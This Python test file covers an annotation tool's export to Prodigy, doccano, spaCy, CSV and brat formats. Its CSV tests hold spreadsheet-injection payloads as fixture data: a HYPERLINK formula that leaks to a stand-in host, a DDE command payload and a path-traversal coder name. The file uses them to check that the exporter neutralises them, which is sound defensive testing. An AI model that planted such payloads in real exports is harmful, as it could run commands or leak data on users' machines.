"""``annotator export --format``: Prodigy, doccano, spaCy, CSV and brat, all atomic."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from annotator.atomic import atomic_folder, atomic_output
from annotator.cli import cli
from annotator.corpus import RawDocument
from annotator.errors import AnnotatorError
from annotator.export import export, records
from annotator.formats import writers
from annotator.formats.registry import EXPORT_KEYS
from annotator.ingest import import_documents
from annotator.labels_import import import_label_files
from annotator.paths import EXPORT_MARKER
from annotator.store import Store
from tests.folders import exported

TEXT = '😀 North Korea, Russia\nand Iran: "a pact".\n\nخبر عاجل e\u0301 👩‍👩‍👧 end.'
SECOND = "Second article.\nWith a line break and 🇺🇦 flag."


def add_doc(store: Store, text: str, **meta) -> int:
    return import_documents(store, [RawDocument(text, "src", meta)]).added[0]


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


@pytest.fixture
def labelled(store):
    """Two documents, three coders, overlapping spans, notes and document fields."""
    d1 = add_doc(store, TEXT, url="https://example.org/1")
    d2 = add_doc(store, SECOND)
    north = TEXT.index("North")
    store.add_span(d1, "ana", north, TEXT.index("\nand") + 4, "alarmist", "crosses a line")
    store.add_span(d1, "ana", north + 3, north + 9, "skeptical_of_alliance")  # mid-token overlap
    store.add_span(d1, "ana", 0, 1, "alarmist")  # the emoji alone
    store.add_span(d1, "ben", TEXT.index('"a pact"'), TEXT.index("خبر") + 3, "policy_prescription")
    store.add_span(d1, "ben", TEXT.index("👩"), TEXT.index(" end"), "alarmist", 'says "no", ok')
    store.add_span(d2, "Chloé", 0, 6, "alarmist")
    store.set_doc_label(d1, "ana", "dominant_frame", "alarmist")
    store.set_doc_label(d1, "ana", "frames_present", ["alarmist", "skeptical_of_alliance"])
    store.set_doc_label(d2, "ben", "frames_present", [])
    return store, d1, d2


# --- Prodigy -----------------------------------------------------------------------


def test_prodigy_export_has_only_prodigy_fields(labelled, tmp_path):
    store, d1, _ = labelled
    out = tmp_path / "p.jsonl"
    assert export(store, out, fmt="prodigy") == 4
    canonical = list(records(store))
    lines = read_jsonl(out)
    assert [r["_annotator_id"] for r in lines] == ["ana", "ben", "Chloé", "ben"]
    for rec, canon in zip(lines, canonical, strict=True):
        assert set(rec) <= set(writers.PRODIGY_KEYS)
        assert "doc_labels" not in rec and "scheme_version" not in rec
        assert rec["text"] == canon["text"] and rec["tokens"] == canon["tokens"]
        assert rec["answer"] == "accept"
        for sp in rec["spans"]:
            assert set(sp) == set(writers.PRODIGY_SPAN_KEYS)
            assert rec["text"][sp["start"] : sp["end"]] == sp["text"]
    # And it reads back (spans only) as Prodigy.
    with Store(tmp_path / "back.db") as s:
        [r] = import_label_files(s, [out])
        assert r.ok and r.format == "prodigy" and r.spans_added == 6


# --- doccano -----------------------------------------------------------------------


def test_doccano_export_one_file_per_coder(labelled, tmp_path):
    store, d1, d2 = labelled
    out = tmp_path / "doccano"
    assert export(store, out, fmt="doccano") == 4
    assert sorted(p.name for p in exported(out)) == ["Chloé.jsonl", "ana.jsonl", "ben.jsonl"]
    [ana] = read_jsonl(out / "ana.jsonl")
    north = TEXT.index("North")
    assert set(ana) == {"text", "label", "origins", "cats", "doc_label_origins", "meta", "memo",
                        "_annotator_id", "_timestamp"}  # fmt: skip
    assert ana["_annotator_id"] == "ana"
    assert ana["text"] == TEXT
    assert ana["label"] == [
        [0, 1, "alarmist"],
        [north, TEXT.index("\nand") + 4, "alarmist"],
        [north + 3, north + 9, "skeptical_of_alliance"],
    ]
    assert ana["cats"] == {
        "dominant_frame": "alarmist",
        "frames_present": ["alarmist", "skeptical_of_alliance"],
    }
    ben = read_jsonl(out / "ben.jsonl")
    assert [r["meta"]["doc_id"] for r in ben] == [d1, d2]
    assert ben[1] == {
        "text": SECOND,
        "label": [],
        "origins": [],
        "cats": {"frames_present": []},
        "doc_label_origins": {"frames_present": "manual"},
        "meta": ben[1]["meta"],
        "memo": "",
        "_annotator_id": "ben",
        "_timestamp": ben[1]["_timestamp"],
    }
    # Reading each file back with --annotator restores that coder's labels.
    with Store(tmp_path / "back.db") as s:
        for coder in ("ana", "ben", "Chloé"):
            [r] = import_label_files(s, [out / f"{coder}.jsonl"], coder=coder)
            assert r.ok and r.format == "doccano", r.errors
        for coder in ("ana", "ben"):
            for doc in (d1, d2):
                assert s.doc_labels(doc, coder) == store.doc_labels(doc, coder)
                assert [(x.start, x.end, x.label) for x in s.spans(doc, coder)] == [
                    (x.start, x.end, x.label) for x in store.spans(doc, coder)
                ]


# --- spaCy -------------------------------------------------------------------------


def load_docbin(folder: Path):
    """The documents of every shard of a spaCy export, in order."""
    import spacy
    from spacy.tokens import DocBin

    vocab = spacy.blank("en").vocab
    shards = sorted(p for p in folder.iterdir() if p.name != EXPORT_MARKER)
    assert shards and all(p.suffix == ".spacy" and p.is_file() for p in shards)
    return [doc for p in shards for doc in DocBin().from_disk(p).get_docs(vocab)]


def test_spacy_docbin_spans_cats_and_coder(labelled, tmp_path):
    store, d1, d2 = labelled
    out = tmp_path / "train.spacy"
    assert export(store, out, fmt="spacy") == 4
    assert [p.name for p in exported(out)] == ["00000.spacy"]  # a small export: one shard
    docs = load_docbin(out)
    canon = list(records(store))
    assert len(docs) == len(canon)
    for doc, rec in zip(docs, canon, strict=True):
        assert doc.text == rec["text"]
        assert doc.user_data["annotator"] == rec["_annotator_id"]
        assert doc.user_data["doc_id"] == rec["meta"]["doc_id"]
        assert doc.user_data["sha256"] == rec["meta"]["sha256"]
        got = [(s.start_char, s.end_char, s.label_, s.text) for s in doc.spans["sc"]]
        want = [(s["start"], s["end"], s["label"], s["text"]) for s in rec["spans"]]
        assert got == want  # overlapping, mid-token and emoji spans, all exact
    ana = docs[0]
    assert ana.cats == {
        "dominant_frame:alarmist": 1.0,
        "dominant_frame:skeptical_of_alliance": 0.0,
        "dominant_frame:policy_prescription": 0.0,
        "dominant_frame:none": 0.0,
        "frames_present:alarmist": 1.0,
        "frames_present:skeptical_of_alliance": 1.0,
        "frames_present:policy_prescription": 0.0,
    }
    ben_d2 = docs[3]
    assert ben_d2.user_data["annotator"] == "ben"
    assert set(ben_d2.cats.values()) == {0.0} and len(ben_d2.cats) == 3
    assert docs[2].cats == {}  # Chloé set no field


def test_spacy_export_of_an_unlabelled_document(store, tmp_path):
    add_doc(store, "Nobody   labelled\tthis one.\n")
    out = tmp_path / "u.spacy"
    assert export(store, out, fmt="spacy", include_unlabelled=True) == 1
    [doc] = load_docbin(out)
    assert doc.text == "Nobody   labelled\tthis one.\n"
    assert list(doc.spans["sc"]) == [] and doc.user_data["annotator"] is None


def spans_of(doc) -> list[tuple[int, int, str]]:
    return [(s.start_char, s.end_char, s.label_) for s in doc.spans["sc"]]


def test_spacy_export_is_written_in_bounded_shards_that_spacys_corpus_reads(labelled, tmp_path):
    """A shard is written as soon as it holds ``shard_tokens`` tokens, so memory is bounded
    by one shard; ``spacy train``'s reader (``Corpus``) reads the folder in order."""
    import spacy
    from spacy.tokens import DocBin
    from spacy.training import Corpus

    store, d1, d2 = labelled
    for i in range(5):
        d = add_doc(store, f"Extra article {i} about {'the pact ' * (i + 1)}in full.")
        store.add_span(d, "ana", 0, 5, "alarmist")
    canon = list(records(store))
    nlp = spacy.blank("en")
    whole = writers.spacy_doc({**canon[0], "_cats": {}}, nlp.vocab)
    limit = len(whole) + 1  # every shard but the last holds two or more documents
    out = tmp_path / "train"
    out.mkdir()
    assert writers.write_spacy(records(store), out, store.scheme.doc_fields, limit) == 9
    shards = sorted(out.iterdir())
    assert [p.name for p in shards] == [f"{i:05d}.spacy" for i in range(len(shards))]
    assert len(shards) > 2
    for i, p in enumerate(shards):
        sizes = [len(doc) for doc in DocBin().from_disk(p).get_docs(nlp.vocab)]
        assert sizes
        if i < len(shards) - 1:  # full: at the limit, and below it without its last document
            assert sum(sizes) >= limit > sum(sizes[:-1])
        else:
            assert sum(sizes[:-1]) < limit
    examples = list(Corpus(out)(nlp))
    assert [ex.reference.text for ex in examples] == [r["text"] for r in canon]
    assert [spans_of(ex.reference) for ex in examples] == [
        [(s["start"], s["end"], s["label"]) for s in r["spans"]] for r in canon
    ]
    assert [ex.reference.user_data["annotator"] for ex in examples] == [
        r["_annotator_id"] for r in canon
    ]
    # the same documents as one shard
    one = tmp_path / "one"
    one.mkdir()
    writers.write_spacy(records(store), one, store.scheme.doc_fields, 10**9)
    assert [p.name for p in sorted(one.iterdir())] == ["00000.spacy"]
    single = list(Corpus(one)(nlp))
    assert [(e.reference.text, spans_of(e.reference), e.reference.cats) for e in single] == [
        (e.reference.text, spans_of(e.reference), e.reference.cats) for e in examples
    ]


def test_spacy_export_of_nothing_is_one_empty_shard(store, tmp_path):
    import spacy
    from spacy.training import Corpus

    out = tmp_path / "empty.spacy"
    assert export(store, out, fmt="spacy") == 0
    assert [p.name for p in exported(out)] == ["00000.spacy"]
    assert list(Corpus(out)(spacy.blank("en"))) == []


def test_spacy_export_needs_a_folder(labelled, tmp_path):
    store, *_ = labelled
    with pytest.raises(AnnotatorError, match="writes a folder"):
        export(store, "-", fmt="spacy")
    target = tmp_path / "old.spacy"
    target.write_bytes(b"a DocBin from an earlier version")
    with pytest.raises(AnnotatorError, match="not a folder"):
        export(store, target, fmt="spacy")
    assert target.read_bytes() == b"a DocBin from an earlier version"


# --- CSV ---------------------------------------------------------------------------


def test_csv_one_row_per_span_with_quoting(labelled, tmp_path):
    store, d1, d2 = labelled
    tricky = 'Commas, "quotes" and\nnewlines\nin one span.'
    d3 = add_doc(store, f"Intro line.\n{tricky}\nOutro.", title='A, "title"')
    store.add_span(d3, "ana", 12, 12 + len(tricky), "alarmist", 'note, with "quotes"\nand a break')
    out = tmp_path / "spans.csv"
    assert export(store, out, fmt="csv") == 7
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(writers.CSV_COLUMNS)
    assert len(rows) == 7
    canon = [(r, s) for r in records(store) for s in r["spans"]]
    for row, (rec, sp) in zip(rows, canon, strict=True):
        assert int(row["doc_id"]) == rec["meta"]["doc_id"]
        assert row["title"] == rec["meta"]["title"]
        assert row["coder"] == rec["_annotator_id"]
        assert (row["label"], int(row["start"]), int(row["end"])) == (
            sp["label"],
            sp["start"],
            sp["end"],
        )
        assert row["text"] == sp["text"] == rec["text"][sp["start"] : sp["end"]]
        assert row["note"] == sp["note"]
    last = rows[-1]
    assert last["text"] == tricky and last["title"] == 'A, "title"'
    assert last["note"] == 'note, with "quotes"\nand a break'
    assert rows[0]["text"] == "😀"


FORMULA_TEXT = "=1+1 starts this text. -5 degrees then. @home and +more. Plain end."
FORMULA_CODER = '=HYPERLINK("http://evil.example/?leak";"click")'  # ';': names hold no ','


@pytest.fixture
def formulas(store):
    """Cells a spreadsheet would run as formulas, in every text column of the CSV."""
    d = add_doc(store, FORMULA_TEXT, title="=cmd|' /C calc'!A0")
    at = FORMULA_TEXT.index
    store.add_span(d, FORMULA_CODER, 0, 4, "alarmist", "+1 note")  # text "=1+1"
    store.add_span(d, "ana", at("-5"), at("-5") + 2, "alarmist", "@SUM(A1:A9)")  # "-5"
    store.add_span(d, "ana", at("@home"), at("@home") + 5, "alarmist", "\tHIDDEN")  # "@home"
    store.add_span(d, "ana", at("+more"), at("+more") + 5, "alarmist", "\r=2")  # "+more"
    store.add_span(d, "ana", at("Plain"), at("Plain") + 5, "alarmist", "ok = fine")
    return store


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_neutralises_formulas_in_every_text_cell(formulas, tmp_path):
    # OWASP "CSV Injection": a leading ' makes a spreadsheet show the cell as text.
    out = tmp_path / "spans.csv"
    assert export(formulas, out, fmt="csv") == 5
    rows = read_csv(out)
    assert len(rows) == 5  # a note starting with a carriage return stays in its cell
    texts = {r["text"]: r for r in rows}
    assert set(texts) == {"'=1+1", "'-5", "'@home", "'+more", "Plain"}
    assert {r["title"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert texts["'=1+1"]["coder"] == "'" + FORMULA_CODER
    assert {r["coder"] for r in rows} == {"'" + FORMULA_CODER, "ana"}
    notes = [texts[t]["note"] for t in ("'=1+1", "'-5", "'@home", "'+more", "Plain")]
    assert notes == ["'+1 note", "'@SUM(A1:A9)", "'\tHIDDEN", "'\r=2", "ok = fine"]
    for r in rows:  # numbers stay numbers; no text cell starts like a formula
        assert r["start"].isdigit() and r["end"].isdigit() and r["doc_id"].isdigit()
        assert r["scheme_version"].isdigit()
        for col in ("title", "sha256", "coder", "label", "text", "note"):
            assert not r[col].startswith(writers.CSV_FORMULA_START), (col, r[col])


def test_csv_raw_writes_values_exactly_as_stored(formulas, tmp_path):
    out = tmp_path / "raw.csv"
    assert export(formulas, out, fmt="csv", csv_raw=True) == 5
    rows = read_csv(out)
    canon = [(r, s) for r in records(formulas) for s in r["spans"]]
    for row, (rec, sp) in zip(rows, canon, strict=True):
        assert row["title"] == rec["meta"]["title"] == "=cmd|' /C calc'!A0"
        assert (row["coder"], row["text"], row["note"]) == (
            rec["_annotator_id"],
            sp["text"],
            sp["note"],
        )


def test_csv_raw_flag_on_the_command_line(formulas, tmp_path):
    db = str(formulas.path)
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    runner = CliRunner()
    r = runner.invoke(cli, ["--db", db, "export", "--format", "csv", "-o", str(safe)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(cli, ["--db", db, "export", "--format", "csv", "--csv-raw", "-o", str(raw)])
    assert r.exit_code == 0, r.output
    assert read_csv(safe)[0]["title"] == "'=cmd|' /C calc'!A0"
    assert read_csv(raw)[0]["title"] == "=cmd|' /C calc'!A0"


# --- brat --------------------------------------------------------------------------

T_LINE = re.compile(r"^T(\d+)\t(\S+) ([\d ;]+)\t(.*)$")


def parse_ann(path: Path) -> tuple[dict, dict]:
    spans, notes = {}, {}
    for line in path.read_text("utf-8").splitlines():
        if line.startswith("T"):
            m = T_LINE.match(line)
            assert m, line
            frags = [tuple(map(int, f.split())) for f in m.group(3).split(";")]
            spans[int(m.group(1))] = (m.group(2), frags, m.group(4))
        else:
            num, ref, note = line.split("\t")
            assert num.startswith("#") and ref.startswith("AnnotatorNotes T")
            notes[int(ref.removeprefix("AnnotatorNotes T"))] = note
    return spans, notes


def test_brat_standoff_offsets_fragments_and_emoji(labelled, tmp_path):
    store, d1, d2 = labelled
    out = tmp_path / "brat"
    assert export(store, out, fmt="brat") == 4
    assert sorted(p.name for p in exported(out)) == [
        "Chloé",
        "ana",
        "annotation.conf",
        "ben",
        "coders.json",
    ]
    conf = (out / "annotation.conf").read_text("utf-8")
    assert "[entities]\nalarmist\npolicy_prescription\nskeptical_of_alliance\n" in conf
    for rec in records(store):
        sub = out / rec["_annotator_id"]
        stem = f"doc{rec['meta']['doc_id']:05d}"
        txt = (sub / f"{stem}.txt").read_bytes().decode("utf-8")
        assert txt == rec["text"]
        spans, notes = parse_ann(sub / f"{stem}.ann")
        assert len(spans) == len(rec["spans"])
        for i, sp in enumerate(rec["spans"], 1):
            label, frags, shown = spans[i]
            assert label == sp["label"]
            # Fragments cover the span minus its line breaks, in order, never a "\n".
            assert frags[0][0] >= sp["start"] and frags[-1][1] <= sp["end"]
            assert all("\n" not in txt[a:b] for a, b in frags)
            assert "".join(txt[a:b] for a, b in frags) == sp["text"].replace("\n", "")
            assert shown == " ".join(txt[a:b] for a, b in frags)
            if sp["note"]:
                assert notes[i] == " ".join(sp["note"].split())
    # The span that crosses a line break is two fragments; the emoji span is one character.
    spans, notes = parse_ann(out / "ana" / f"doc{d1:05d}.ann")
    north = TEXT.index("North")
    nl = TEXT.index("\nand")
    assert spans[1] == ("alarmist", [(0, 1)], "😀")
    assert spans[2] == ("alarmist", [(north, nl), (nl + 1, nl + 4)], "North Korea, Russia and")
    assert notes == {2: "crosses a line"}
    ben, _ = parse_ann(out / "ben" / f"doc{d1:05d}.ann")
    pact = TEXT.index('"a pact"')
    arabic = TEXT.index("خبر")
    # A blank line inside the span is skipped: two fragments, not three.
    assert ben[1][1] == [(pact, arabic - 2), (arabic, arabic + 3)]
    assert len(ben[2][1]) == 1


# --- atomic writes -------------------------------------------------------------------


def failing(store):
    yield from records(store)
    raise RuntimeError("disk on fire")


def leftovers(folder: Path, name: str) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(f".{name}"))


@pytest.mark.parametrize("fmt", ["prodigy", "csv"])
def test_interrupted_file_export_keeps_the_old_file(labelled, tmp_path, fmt):
    store, *_ = labelled
    out = tmp_path / f"out.{fmt}"
    out.write_bytes(b"previous export\n")
    with pytest.raises(RuntimeError), atomic_output(out) as fh:
        if fmt == "prodigy":
            for rec in failing(store):
                fh.write(json.dumps(writers.prodigy_record(rec)) + "\n")
        else:
            writers.write_csv(failing(store), fh)
    assert out.read_bytes() == b"previous export\n"
    assert leftovers(tmp_path, out.name) == []
    export(store, out, fmt=fmt)  # and a complete export does replace it
    assert out.read_bytes() != b"previous export\n"


@pytest.mark.parametrize("fmt", ["doccano", "brat", "spacy"])
def test_interrupted_folder_export_keeps_the_old_folder(labelled, tmp_path, fmt):
    store, *_ = labelled
    out = tmp_path / "exported"
    export(store, out, fmt=fmt)
    (out / "stale.txt").write_text("from an earlier export")
    before = sorted(str(p.relative_to(out)) for p in out.rglob("*"))
    contents = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    with pytest.raises(RuntimeError), atomic_folder(out) as folder:
        if fmt == "spacy":  # fails after the first shard is written
            writers.write_spacy(failing(store), folder, store.scheme.doc_fields, 1)
        else:
            (writers.write_doccano if fmt == "doccano" else writers.write_brat)(
                failing(store), folder
            )
    assert sorted(str(p.relative_to(out)) for p in out.rglob("*")) == before
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == contents
    assert leftovers(tmp_path, "exported") == []
    export(store, out, fmt=fmt)  # a complete export replaces the folder as a whole
    assert not (out / "stale.txt").exists()
    assert leftovers(tmp_path, "exported") == []


def test_folder_export_refuses_a_file_target_and_stdout(labelled, tmp_path):
    store, *_ = labelled
    target = tmp_path / "file"
    target.write_text("keep me")
    with pytest.raises(AnnotatorError, match="not a folder"):
        export(store, target, fmt="brat")
    assert target.read_text() == "keep me"
    with pytest.raises(AnnotatorError, match="writes a folder"):
        export(store, "-", fmt="doccano")
    with pytest.raises(AnnotatorError, match="unknown export format"):
        export(store, tmp_path / "x", fmt="conll")


# --- bugs ----------------------------------------------------------------------------


def test_doccano_coders_with_the_same_safe_name_are_not_lost(store, tmp_path):
    d = add_doc(store, "Two coders, one file name.")
    store.add_span(d, "Ana M.", 0, 3, "alarmist")
    store.add_span(d, "Ana_M", 5, 11, "alarmist")
    out = tmp_path / "dc"
    assert export(store, out, fmt="doccano") == 2
    lines = [line for p in exported(out) for line in read_jsonl(p)]
    assert sorted(tuple(x["label"][0]) for x in lines) == [(0, 3, "alarmist"), (5, 11, "alarmist")]


def test_brat_coders_with_the_same_safe_name_are_not_lost(store, tmp_path):
    d = add_doc(store, "Two coders, one folder name.")
    store.add_span(d, "Ana M.", 0, 3, "alarmist")
    store.add_span(d, "Ana_M", 5, 11, "alarmist")
    out = tmp_path / "brat"
    assert export(store, out, fmt="brat") == 2
    anns = sorted(out.rglob("*.ann"))
    assert len(anns) == 2


# A coder name of 100 CJK characters is 300 bytes in UTF-8: more than a file name can hold.
LONG = "長" * 100


@pytest.fixture
def awkward(store):
    """Coders whose names do not fit a file name, and one whose name is the placeholder
    an older database may hold ('unlabelled'); one document nobody labelled."""
    d1 = add_doc(store, TEXT)
    d2 = add_doc(store, SECOND)
    add_doc(store, "Nobody labelled this third article.")
    store.add_span(d1, LONG, 0, 1, "alarmist")
    store.add_span(d1, "unlabelled", 2, 7, "alarmist")  # the store API itself does not refuse it
    store.add_span(d2, "ana/../ben", 0, 6, "alarmist")
    store.add_span(d2, "CON", 0, 6, "alarmist")
    return store


def test_doccano_file_names_fit_and_the_real_names_stay_inside(awkward, tmp_path):
    out = tmp_path / "dc"
    assert export(awkward, out, fmt="doccano", include_unlabelled=True) == 5
    files = {p.name: read_jsonl(p) for p in exported(out)}
    assert all(len(name.encode("utf-8")) <= 255 for name in files)
    by_coder = {lines[0]["_annotator_id"]: name for name, lines in files.items()}
    assert set(by_coder) == {LONG, "unlabelled", "ana/../ben", "CON", None}
    assert by_coder[None] == "unlabelled.jsonl"  # the documents nobody labelled, alone
    assert [r["text"] for r in files["unlabelled.jsonl"]] == ["Nobody labelled this third article."]
    assert by_coder["unlabelled"] != "unlabelled.jsonl"
    assert by_coder[LONG].startswith("長") and re.search(r"-[0-9a-f]{8}\.jsonl$", by_coder[LONG])
    assert "/" not in by_coder["ana/../ben"] and by_coder["CON"] != "CON.jsonl"
    # Stable: the same database gives the same names, whatever else is in it.
    again = tmp_path / "again"
    export(awkward, again, fmt="doccano", coder=LONG)
    assert [p.name for p in exported(again)] == [by_coder[LONG]]
    # And the names come back from the files alone (no --annotator); a name the rule now
    # reserves is refused with that reason.
    with Store(tmp_path / "back.db") as s:
        results = {n: import_label_files(s, [out / n])[0] for n in files if n != "unlabelled.jsonl"}
        refused = {n: r.errors for n, r in results.items() if not r.ok}
        assert list(refused) == [by_coder["unlabelled"]]
        assert "coder name 'unlabelled' is reserved" in refused[by_coder["unlabelled"]][0]
        assert sorted(s.coders()) == sorted([LONG, "ana/../ben", "CON"])


def test_brat_folder_names_fit_and_coders_json_names_them(awkward, tmp_path):
    out = tmp_path / "brat"
    assert export(awkward, out, fmt="brat", include_unlabelled=True) == 5
    names = json.loads((out / "coders.json").read_text("utf-8"))
    assert sorted(names.values(), key=str) == sorted(
        [LONG, "unlabelled", "ana/../ben", "CON", None], key=str
    )
    assert names["unlabelled"] is None
    for folder in names:
        assert (out / folder).is_dir() and len(folder.encode("utf-8")) <= 255
        assert folder not in ("annotation.conf", "coders.json")
    assert sorted(p.name for p in (out / "unlabelled").iterdir()) == [
        "doc00003.ann",
        "doc00003.txt",
    ]


def test_a_coder_named_like_a_file_brat_writes_gets_another_folder(store, tmp_path):
    d = add_doc(store, SECOND)
    store.add_span(d, "annotation.conf", 0, 6, "alarmist")
    out = tmp_path / "brat"
    export(store, out, fmt="brat")
    assert (out / "annotation.conf").is_file()
    [folder] = [k for k, v in json.loads((out / "coders.json").read_text("utf-8")).items() if v]
    assert folder.startswith("annotation.conf-") and (out / folder / "doc00001.ann").is_file()


# --- the command line ----------------------------------------------------------------


@pytest.fixture
def workdir(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with Store(tmp_path / "x.db") as s:
        d = add_doc(s, TEXT)
        s.add_span(d, "ana", 2, 7, "alarmist")
        s.set_doc_label(d, "ana", "dominant_frame", "none")
    return tmp_path


def run(*args):
    return CliRunner().invoke(cli, ["--db", "x.db", *args], catch_exceptions=False)


@pytest.mark.parametrize("fmt", EXPORT_KEYS)
def test_cli_export_every_format(workdir, fmt):
    res = run("export", "--format", fmt, "-o", f"out.{fmt}")
    assert res.exit_code == 0, res.output
    assert f"to out.{fmt} ({fmt})." in res.stderr
    assert (workdir / f"out.{fmt}").exists()


def test_cli_export_errors_are_one_line(workdir):
    res = run("export", "--format", "brat", "-o", "-")
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.strip() == "Error: brat export writes a folder; give -o FOLDER"
    res = run("export", "--format", "spacy", "-o", "out", "--annotator", "nobody")
    assert res.exit_code == 1 and "unknown coder 'nobody'" in res.stderr
    res = run("export", "--format", "xml", "-o", "out")
    assert res.exit_code == 2 and "Traceback" not in res.output


def test_cli_prodigy_to_stdout(workdir):
    res = run("export", "--format", "prodigy", "-o", "-")
    assert res.exit_code == 0
    [line] = res.stdout.splitlines()
    assert json.loads(line)["_annotator_id"] == "ana"


@settings(max_examples=200, deadline=None)
@given(names=st.lists(st.text(min_size=1, max_size=100), min_size=1, max_size=6, unique=True))
def test_every_valid_coder_name_gets_a_usable_distinct_file_name(tmp_path_factory, names):
    from annotator.store import check_coder_name

    folder = tmp_path_factory.mktemp("names")
    valid = []
    for name in names:
        try:
            valid.append(check_coder_name(name))
        except AnnotatorError:
            continue
    unique = writers.UniqueNames(taken=("annotation.conf", "coders.json"))
    stems = [unique(n) for n in valid] + [unique(None)]
    assert len({s.lower() for s in stems}) == len(stems)
    for name, stem in zip(valid, stems, strict=False):
        assert stem == writers.file_stem(name, ("annotation.conf", "coders.json")) or stem.endswith(
            ("-2", "-3", "-4", "-5", "-6", "-7")
        )
        path = folder / f"{stem}.jsonl"
        assert path.parent == folder and stem not in (".", "..")
        path.write_text(name, encoding="utf-8")  # the file system takes it
        assert path.read_text(encoding="utf-8") == name


def test_a_document_coded_without_spans_is_exported_sensibly_in_every_format(store, tmp_path):
    """A coder who marked a document done without labelling anything coded it with no
    spans: every format gets that record (none of them breaks on it), and the doccano file
    brings the coder and the empty coding back."""
    d = add_doc(store, "Tehran sent drones. Analysts doubt the alliance will last.")
    store.set_status(d, "ana", "done")
    [rec] = records(store)
    assert (rec["_annotator_id"], rec["status"], rec["spans"], rec["doc_labels"]) == (
        "ana",
        "done",
        [],
        {},
    )
    assert export(store, tmp_path / "p.jsonl", fmt="prodigy") == 1
    [p] = read_jsonl(tmp_path / "p.jsonl")
    assert p["spans"] == [] and p["_annotator_id"] == "ana" and "status" not in p
    assert export(store, tmp_path / "d", fmt="doccano") == 1
    [line] = read_jsonl(tmp_path / "d" / "ana.jsonl")
    assert (line["label"], line["cats"], line["_annotator_id"]) == ([], {}, "ana")
    assert export(store, tmp_path / "c.csv", fmt="csv") == 0  # one row per span: none
    assert export(store, tmp_path / "b", fmt="brat") == 1
    assert (tmp_path / "b" / "ana" / f"doc{d:05d}.ann").read_text(encoding="utf-8") == ""
    assert export(store, tmp_path / "s", fmt="spacy") == 1
    with Store(tmp_path / "back.db") as s:
        [r] = import_label_files(s, [tmp_path / "d" / "ana.jsonl"])
        assert r.ok and r.tasks == 1, r.errors
